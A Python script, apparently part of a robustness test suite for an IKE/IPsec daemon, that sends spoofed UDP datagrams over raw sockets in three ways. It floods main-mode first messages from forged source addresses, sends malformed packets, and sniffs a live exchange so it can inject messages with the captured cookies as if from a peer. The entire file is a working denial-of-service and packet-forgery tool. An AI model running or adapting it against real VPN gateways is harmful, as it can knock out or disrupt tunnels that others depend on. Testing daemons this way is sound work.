#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""usage: attack.py flood DST RATE SOURCES | malformed DST SRC COUNT RATE | forged DST SRC DEV COUNT RATE

Datagrams to the IKE daemon at DST that no honest peer sends, from forged addresses (raw sockets).
flood: first messages of main mode with an acceptable proposal from SOURCES addresses in 10.200.0.0/16 until it is ended:
RATE a second, or as many as take half of this machine's time, if those are fewer; prints that number once it is known, and
how many were sent at the end. malformed: COUNT datagrams that parse
nowhere. forged: listens on DEV for an IKE message between SRC and DST, then sends COUNT messages with its
cookies and made-up contents, as if from SRC.
"""
import os
import random
import signal
import socket
import struct
import sys
import time

PORT = 500
TRIAL = 25	# first messages a second
MAIN, INFO, QUICK = 2, 5, 32


def header(icookie, rcookie, first, exchange, flags, msgid, body):
    return icookie + rcookie + struct.pack("!BBBBII", first, 0x10, exchange, flags, msgid, 28 + len(body)) + body


def first_message():
    """SA: 3des, sha, pre-share, group 2: as short as it can be"""
    attrs = b"".join(struct.pack("!HH", 0x8000 | t, v) for t, v in ((1, 5), (2, 2), (3, 1), (4, 2)))
    transform = struct.pack("!BBHBBH", 0, 0, 8 + len(attrs), 1, 1, 0) + attrs
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
    sa = struct.pack("!BBHII", 0, 0, 12 + len(proposal), 1, 1) + proposal
    return header(os.urandom(8), bytes(8), 1, MAIN, 0, 0, sa)


class Raw:
    """UDP from any address; the kernel fills in the IP header's length and checksum"""

    def __init__(self, dst):
        self.dst = dst
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(self, src, data):
        udp = struct.pack("!HHHH", PORT, PORT, 8 + len(data), 0) + data
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(self.dst))
        self.socket.sendto(ip + udp, (self.dst, 0))


class Pace:
    """So many datagrams a second, in small trains"""

    def __init__(self, rate):
        self.rate, self.begin, self.n = int(rate), time.monotonic(), 0

    def sent(self, count):
        self.n += count
        ahead = self.n / self.rate - (time.monotonic() - self.begin)
        if ahead > 0:
            time.sleep(ahead)


def processor_time():
    """All of it so far, and what of it was idle"""
    with open("/proc/stat") as stat:
        ticks = [int(field) for field in stat.readline().split()[1:9]]
    return sum(ticks), ticks[3] + ticks[4]


def flood(dst, rate, sources):
    raw, sources, n = Raw(dst), int(sources), 0
    signal.signal(signal.SIGTERM, lambda *_: (print(n, flush=True), os._exit(0)))

    def send(pace, until):
        nonlocal n
        while not until or time.monotonic() < until:
            for _ in range(5):
                i = n % sources
                raw.send("10.200.%d.%d" % (i >> 8, i & 255), first_message())
                n += 1
            pace.sent(5)

    # What a few cost. More than a machine can read says nothing of who is let in: its kernel drops them as they come.
    all_before, idle_before = processor_time()
    send(Pace(TRIAL), time.monotonic() + 3)
    all_after, idle_after = processor_time()
    busy = 1 - (idle_after - idle_before) / (all_after - all_before)
    rate = min(int(rate), max(TRIAL, int(TRIAL / 2 / max(busy, 0.01))))
    print(rate, "a second", flush=True)
    send(Pace(rate), None)


def malformed_one(rng):
    """In turn: noise, a wrong length, a chain that breaks, unknown cookies, an unknown exchange"""
    kind = rng.randrange(5)
    if kind == 0:
        return rng.randbytes(rng.randrange(200))
    if kind == 1:
        return first_message()[:-rng.randrange(1, 40)]
    if kind == 2:
        good = bytearray(first_message())
        good[rng.randrange(28, len(good))] ^= rng.randrange(1, 256)
        good[29] = 1
        return bytes(good)
    body = rng.randbytes(16 * rng.randrange(1, 8))
    return header(rng.randbytes(8), rng.randbytes(8), rng.randrange(20), QUICK if kind == 3 else rng.randrange(256), kind & 1,
                  rng.randrange(1 << 32), body)


def malformed(dst, src, count, rate):
    raw, rng, pace = Raw(dst), random.Random(1), Pace(rate)
    for _ in range(int(count)):
        raw.send(src, malformed_one(rng))
        pace.sent(1)


def forged(dst, src, dev, count, rate):
    raw, rng = Raw(dst), random.Random(2)
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    sniffer.bind((dev, 0))
    print("listening", flush=True)
    while True:
        packet = sniffer.recv(2000)
        ends = {socket.inet_ntoa(packet[12:16]), socket.inet_ntoa(packet[16:20])}
        if packet[9] == 17 and ends == {src, dst} and struct.unpack("!H", packet[22:24])[0] == PORT and len(packet) >= 56:
            break
    cookies, pace = packet[28:44], Pace(rate)
    for i in range(int(count)):
        exchange = (MAIN, QUICK, INFO, 4, 6)[i % 5]
        body = rng.randbytes(16 * rng.randrange(0, 12) + (i & 3))
        raw.send(src, header(cookies[:8], cookies[8:], rng.randrange(14), exchange, i & 1,
                             0 if exchange == MAIN else rng.randrange(1 << 32), body))
        pace.sent(1)
    print("sent", flush=True)


if __name__ == "__main__":
    {"flood": flood, "malformed": malformed, "forged": forged}[sys.argv[1]](*sys.argv[2:])
